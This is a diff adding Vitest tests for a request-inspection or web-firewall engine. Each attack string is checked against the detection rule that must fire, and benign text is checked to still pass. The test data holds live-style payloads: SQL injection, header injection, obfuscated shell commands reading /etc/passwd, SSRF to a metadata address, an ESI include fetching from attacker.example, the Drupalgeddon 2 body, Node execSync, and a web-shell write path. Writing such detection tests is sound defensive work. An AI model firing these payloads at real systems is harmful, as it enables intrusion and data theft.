@@ -1,0 +1,126 @@
+import { describe, expect, it } from 'vitest';
+import { createInspector, type InspectRequest } from '../index.js';
+import { jsonRequest, queryRequest, ruleIds } from '../testing/requests.js';
+
+/**
+ * Blind spots and false alarms a probe set written apart from the engine's corpora found (session 5): each attack
+ * with the rule that must now fire, and the benign text next to it that must still pass.
+ */
+const pl2 = createInspector({ paranoia: 2 });
+const pl1 = createInspector({ paranoia: 1 });
+const q = (v: string) => ruleIds(pl2, queryRequest(v));
+const passes = (req: InspectRequest, inspector = pl2) => inspector.inspect(req).blocked === false;
+
+describe('sqli: a line comment as the blank between UNION and SELECT', () => {
+  it('reads UNION--\\nSELECT and union#x\\nselect (sqlmap space2dash, space2hash)', () => {
+    expect(q('1--\nUNION--\nSELECT--\n1,2')).toContain('sqli.union-select');
+    expect(q('-1 union#foo\nselect 1,2,3')).toContain('sqli.union-select');
+    expect(passes(queryRequest('The union -- as I said\nselected its leaders'))).toBe(true);
+  });
+});
+
+describe('crlf: a header then a blank line and a body', () => {
+  it('in a URL value, whatever follows', () => {
+    expect(q('/home\r\nSet-Cookie: a=b\r\n\r\nhello')).toContain('crlf.header-injection');
+    expect(q('x\r\nLocation: http://evil.example\r\n\r\nhello')).toContain('crlf.header-injection');
+  });
+
+  it('in a body field that holds one line (a subject), not in a message body', () => {
+    expect(ruleIds(pl2, jsonRequest('subject', 'Hi\r\nBcc: victim@example.com\r\n\r\nbuy now'))).toContain('mail.header-injection');
+    const forwarded = '---------- Forwarded message ---------\nFrom: Billing <billing@vendor.example>\nDate: Mon, 2 Nov\nSubject: Invoice\nTo: me@example.com\n\nPlease find the invoice attached.';
+    expect(passes(jsonRequest('text', forwarded))).toBe(true);
+  });
+});
+
+describe('Authorization: Basic', () => {
+  const basic = (credentials: string): InspectRequest => ({ method: 'GET', path: '/me', query: '', headers: { host: 'h', authorization: `Basic ${Buffer.from(credentials).toString('base64')}` } });
+
+  it('the user name is read like a form field', () => {
+    expect(ruleIds(pl2, basic("admin' or true--:whatever"))).toContain('sqli.tautology');
+    expect(pl2.inspect(basic("x' UNION SELECT 1,2-- -:p")).findings.every((f) => f.location === 'header:authorization')).toBe(true);
+  });
+
+  it('the password is not read: it may hold any character', () => {
+    expect(passes(basic("alice:p'--or 1=1 \" <script>"))).toBe(true);
+    expect(passes(basic("O'Brien:secret"))).toBe(true);
+  });
+});
+
+describe('cmdi: forms a shell or cmd.exe undoes', () => {
+  it.each([
+    ['cmdi.shell-expansion', 'x;${PATH:0:1}bin${PATH:0:1}cat ${PATH:0:1}etc${PATH:0:1}passwd'],
+    ['cmdi.chained-command', 'x|| (id)'],
+    ['cmdi.obfuscated-word', '127.0.0.1 & p^o^w^e^r^s^h^e^l^l -c whoami'],
+    ['cmdi.obfuscated-word', 'w^h^o^a^m^i'],
+    ['cmdi.windows', 'x&set x=who&&set y=ami&&call %x%%y%'],
+  ])('%s: %s', (rule, v) => {
+    expect(q(v)).toContain(rule);
+  });
+
+  it.each(['Q&A (who)', 'salt & (pepper)', 'x^2 + y^2 = r^2', 'e=mc^2', 'Please call %name% at %phone%'])('passes %s', (v) => {
+    expect(passes(queryRequest(v))).toBe(true);
+  });
+});
+
+describe('ssrf: a rebinding service name carrying addresses in hex', () => {
+  it('7f000001.a9fea9fe.rbndr.us is loopback, then the metadata address', () => {
+    expect(q('http://7f000001.a9fea9fe.rbndr.us/latest/meta-data/')).toContain('ssrf.internal-host');
+    expect(passes(queryRequest('https://deadbeef.cafebabe.example.com/x'))).toBe(true);
+  });
+});
+
+describe('ESI, Drupal render arrays, Razor', () => {
+  it('an Edge Side Includes tag', () => {
+    expect(ruleIds(pl2, jsonRequest('html', '<p>Hi</p><esi:include src="http://attacker.example/x.html"/>'))).toContain('ssi.esi-tag');
+    expect(q('<esi:vars>$(HTTP_COOKIE{PHPSESSID})</esi:vars>')).toContain('ssi.esi-tag');
+    expect(passes(queryRequest('Tesla <3 vesi'))).toBe(true);
+  });
+
+  it('a #post_render property in a form name (Drupalgeddon 2)', () => {
+    const body = 'mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id&form_id=user_register_form';
+    const req: InspectRequest = { method: 'POST', path: '/user/register', query: 'element_parents=account/mail/%23value&ajax_form=1', headers: { host: 'h', 'content-type': 'application/x-www-form-urlencoded' }, body };
+    expect(ruleIds(pl2, req)).toContain('php.render-callback');
+    expect(passes({ ...req, body: 'mail=a%40example.com&tags[#1]=x&form_id=user_register_form' })).toBe(true);
+  });
+
+  it('a Razor expression on a .NET namespace, not an address at system.io', () => {
+    expect(q('@System.Diagnostics.Process.Start("cmd.exe","/c whoami")')).toContain('ssti.object-traversal');
+    expect(passes(queryRequest('mail me at admin@System.IO.com'))).toBe(true);
+  });
+});
+
+describe('xss: a markdown link target', () => {
+  it('[a](javascript:...) is a script URL at paranoia 1; other links pass', () => {
+    expect(ruleIds(pl1, queryRequest('[a](javascript:alert(document.domain))'))).toContain('xss.script-url');
+    expect(ruleIds(pl1, queryRequest('see [docs](https://example.com/a_(b)) and [x](  JaVaScRiPt:alert(1))'))).toContain('xss.script-url');
+    expect(passes(queryRequest('[link](https://example.com) and [mail](mailto:a@example.com)'), pl1)).toBe(true);
+  });
+});
+
+describe('false alarms on developer and API content', () => {
+  it('a JSONLogic rule: an operator as a JSON member name', () => {
+    const body = JSON.stringify({ rules: [{ if: { and: [{ '==': [{ var: 'country' }, 'DE'] }, { '>=': [{ var: 'app_version' }, '5.2.0'] }] }, then: true }] });
+    expect(passes({ method: 'PUT', path: '/flags/x', query: '', headers: { host: 'h', 'content-type': 'application/json' }, body })).toBe(true);
+  });
+
+  it("OData's $search option, while q[$search] stays a MongoDB operator", () => {
+    expect(passes({ method: 'GET', path: '/odata/Customers', query: '$search=%22union%20station%22%20OR%20chicago&$top=5', headers: { host: 'h' } })).toBe(true);
+    expect(ruleIds(pl2, { method: 'GET', path: '/users', query: 'q[$search]=x', headers: { host: 'h' } })).toContain('nosqli.operator-key');
+  });
+
+  it('child_process named in prose; reached in code', () => {
+    expect(passes(queryRequest('When should I use child_process.exec versus spawn?'))).toBe(true);
+    expect(q('global.process.mainModule.constructor._load("child_process").execSync("id")')).toContain('js.node-runtime');
+    expect(q("x=child_process.exec('id')")).toContain('js.node-runtime');
+  });
+
+  it('a sensitive path in a sentence scores less than one alone', () => {
+    for (const v of ['On Ubuntu I checked /etc/sudoers with visudo and the timeout is zero', 'The file is at /var/log/nginx/access.log on my machine']) {
+      expect(q(v), v).toEqual(['traversal.sensitive-file-in-text']);
+    }
+    expect(q('The file is at /home/me/app/.env.example on my machine')).toEqual([]);
+    for (const v of ['/etc/sudoers', '../../etc/passwd in the file', 'dd if=/etc/passwd of=/tmp/evil.sh bs=1 skip=22 count=9', '"attacker\\" -oQ/tmp/ -X/var/www/html/shell.php some"@example.com']) {
+      expect(q(v), v).toContain('traversal.sensitive-file');
+    }
+  });
+});
